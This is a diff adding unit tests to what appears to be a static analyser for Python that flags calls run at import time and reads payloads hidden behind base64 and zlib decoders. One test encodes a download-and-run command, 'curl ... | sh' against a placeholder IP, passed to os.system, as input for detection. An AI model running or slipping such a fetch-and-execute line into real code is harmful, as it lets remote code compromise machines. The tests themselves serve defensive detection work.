@@ -55,3 +55,32 @@ def test_fold_constant_strings() -> None:
 
 def test_unparsable_source_is_marked() -> None:
     assert not python_facts("print 'python 2'\n").parsed
+
+
+def test_functions_reached_from_module_level_run_at_import() -> None:
+    source = (
+        "import os, threading\n"
+        "def helper():\n    os.system('a')\n"
+        "def payload():\n    helper()\n"
+        "def unused():\n    os.system('b')\n"
+        "threading.Thread(target=payload).start()\n"
+    )
+    contexts = {f.line: f.context for f in python_facts(source).facts if f.value == "os.system"}
+    assert contexts == {3: IMPORT, 7: RUNTIME}
+
+
+def test_literal_payloads_behind_decoders_are_read_not_run() -> None:
+    import base64
+    import zlib
+
+    inner = "import socket\nsocket.gethostname()\n"
+    packed = base64.b64encode(zlib.compress(inner.encode())).decode()
+    source = f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{packed}')))\n"
+    facts = python_facts(source).facts
+    assert ("socket.gethostname", 2) in {(f.value, f.line) for f in facts if f.kind == "call"}
+    assert any(f.kind == "string" and "gethostname" in f.value for f in facts)
+    command = base64.b64encode(b"curl -s http://203.0.113.5/a | sh").decode()
+    spawn = python_facts(f"import os, base64\nos.system(base64.b64decode('{command}'))\n")
+    values = {f.value for f in spawn.facts}
+    assert "os.system<-base64.b64decode" in values
+    assert "curl -s http://203.0.113.5/a | sh" in values
